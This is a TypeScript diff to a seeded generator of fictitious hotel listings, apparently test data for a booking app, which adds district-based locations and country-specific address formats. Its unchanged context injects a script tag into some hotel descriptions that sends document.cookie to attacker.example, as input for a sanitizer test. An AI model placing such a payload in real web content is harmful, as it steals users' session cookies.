@@ -39,38 +39,6 @@ export interface HotelBase {
   hostile: boolean; // this hotel's texts carry hostile markup for the sanitizer
 }
 
-const SUFFIXES = [
-  "Downtown",
-  "Airport",
-  "Convention Center",
-  "Riverside",
-  "Old Town",
-  "Midtown",
-  "Waterfront",
-  "North",
-  "Central Station",
-  "University District",
-  "Financial District",
-  "Beachfront",
-  "Historic District",
-  "Uptown",
-  "West End",
-];
-const STREETS = [
-  "Main Street",
-  "Market Street",
-  "Harbor Boulevard",
-  "Park Avenue",
-  "River Road",
-  "Station Square",
-  "King Street",
-  "Lakeview Drive",
-  "Broadway",
-  "Church Street",
-  "Airport Way",
-  "Grand Avenue",
-];
-
 const ROOMS: readonly RoomTemplate[] = [
   {
     type: "standard",
@@ -116,24 +84,27 @@ const ROOMS: readonly RoomTemplate[] = [
   },
 ];
 
+/** The hotels a program has at a destination; throws for a destination decideOutcome refused. */
 export function buildDirectory(
   program: HotelProgram,
   destination: string,
 ): { place: Place; hotels: HotelBase[] } {
   const place = resolvePlace(destination);
+  if (!place) throw new Error("buildDirectory: the destination is not a known place");
   const code = program.provider.code;
   const rng = seededRandom("directory", code, destination.trim().toLowerCase());
   const cityFactor = 0.8 + rng.next() * 0.8;
-  const count = rng.int(5, 25);
+  // A brand has at most one hotel per district, so the list cannot outgrow brands × districts.
+  const count = Math.min(rng.int(5, 25), program.brands.length * place.areas.length);
   const used = new Set<string>();
   const hotels: HotelBase[] = [];
   while (hotels.length < count) {
     const brand = rng.pick(program.brands);
-    const suffix = rng.pick(SUFFIXES);
-    const name = `${brand.name} ${place.city} ${suffix}`;
+    const area = rng.pick(place.areas);
+    const name = `${brand.name} ${place.city} ${area[0]}`;
     if (used.has(name)) continue;
     used.add(name);
-    hotels.push(buildHotel(rng, program, place, name, brand.tier, suffix, cityFactor));
+    hotels.push(buildHotel(rng, program, place, name, brand.tier, area, cityFactor));
   }
   return { place, hotels: hotels.sort((a, b) => a.distance - b.distance) };
 }
@@ -144,18 +115,18 @@ function buildHotel(
   place: Place,
   name: string,
   tier: number,
-  suffix: string,
+  area: [string, number],
   cityFactor: number,
 ): HotelBase {
   const key = slug(`${program.provider.code}-${name}`);
-  const far = suffix === "Airport" ? 0.15 : 0.05;
-  const lat = round4(place.lat + (rng.next() - 0.5) * far * 2);
-  const lng = round4(place.lng + (rng.next() - 0.5) * far * 2);
+  // The district's real distance from the centre, ±25 %, in a seeded direction.
+  const miles = Math.max(0.1, area[1] * (0.75 + rng.next() * 0.5));
+  const bearing = rng.next() * 2 * Math.PI;
+  const lat = round4(place.lat + (miles / 69.05) * Math.cos(bearing));
+  const lng = round4(place.lng + (miles / (69.17 * Math.cos((place.lat * Math.PI) / 180))) * Math.sin(bearing));
   const baseCashUsd = Math.round((60 + tier * 55) * cityFactor * (0.85 + rng.next() * 0.3));
-  const addressLine = `${rng.int(1, 2400)} ${rng.pick(STREETS)}`;
   const postalCode = place.postal ? fillPattern(place.postal, rng) : undefined;
-  const region = [place.stateName, postalCode].filter(Boolean).join(" ");
-  const text = [addressLine, place.city, region, place.countryName].filter(Boolean).join(", ");
+  const { addressLine, text } = formatAddress(place, rng.pick(place.streets), rng, postalCode);
   const hostile = rng.chance(0.12);
   const distance = Math.round(milesBetween(place.lat, place.lng, lat, lng) * 10) / 10;
   return {
@@ -180,7 +151,7 @@ function buildHotel(
     phone: phoneFor(place, rng),
     hotelURL: `https://hotels.example.com/${program.provider.code}/${key}`,
     hotelDescription:
-      `<p>${name} is ${distance.toFixed(1)} miles from the centre of ${place.city}.</p>` +
+      `<p>${name} is ${distance.toFixed(1)} miles from the centre of ${place.city}, in ${area[0]}.</p>` +
       `<p><b>Free Wi-Fi</b>, fitness centre${tier >= 3 ? ", restaurant and bar" : ""}.</p>` +
       (hostile && rng.chance(0.5)
         ? `<script>fetch("https://attacker.example/steal?c="+document.cookie)</script>`
@@ -188,6 +159,42 @@ function buildHotel(
     rooms: pickRooms(rng, hostile),
     hostile,
   };
+}
+
+/**
+ * The street address as the country writes it: "12 Rue Scribe, 75010 Paris, France",
+ * "Friedrichstraße 68, 10117 Berlin, Germany", "1-8-1 Marunouchi, Chiyoda-ku, Tokyo 100-0005, Japan",
+ * "151 West 44th Street, New York, New York 10036, United States".
+ */
+export function formatAddress(place: Place, street: string, rng: Rng, postal: string | undefined): { addressLine: string; text: string } {
+  const join = (...parts: (string | undefined)[]) => parts.filter(Boolean).join(", ");
+  const cityLine = (...parts: (string | undefined)[]) => parts.filter(Boolean).join(" ");
+  switch (place.style) {
+    case "fr": {
+      const line = `${rng.int(1, 120)} ${street}`;
+      return { addressLine: line, text: join(line, cityLine(postal, place.city), place.countryName) };
+    }
+    case "eu": {
+      const line = `${street} ${rng.int(1, 180)}`;
+      return { addressLine: line, text: join(line, cityLine(postal, place.city), place.countryName) };
+    }
+    case "uk": {
+      const line = `${rng.int(1, 220)} ${street}`;
+      return { addressLine: line, text: join(line, cityLine(place.city, postal), place.countryName) };
+    }
+    case "jp": {
+      const line = `${rng.int(1, 9)}-${rng.int(1, 20)}-${rng.int(1, 30)} ${street}`;
+      return { addressLine: line, text: join(line, cityLine(place.city, postal), place.countryName) };
+    }
+    case "intl": {
+      const line = `${rng.int(1, 400)} ${street}`;
+      return { addressLine: line, text: join(line, cityLine(place.city, postal), place.countryName) };
+    }
+    case "us": {
+      const line = `${rng.int(1, 2400)} ${street}`;
+      return { addressLine: line, text: join(line, place.city, cityLine(place.stateName, postal), place.countryName) };
+    }
+  }
 }
 
 function pickRooms(rng: Rng, hostile: boolean): RoomTemplate[] {
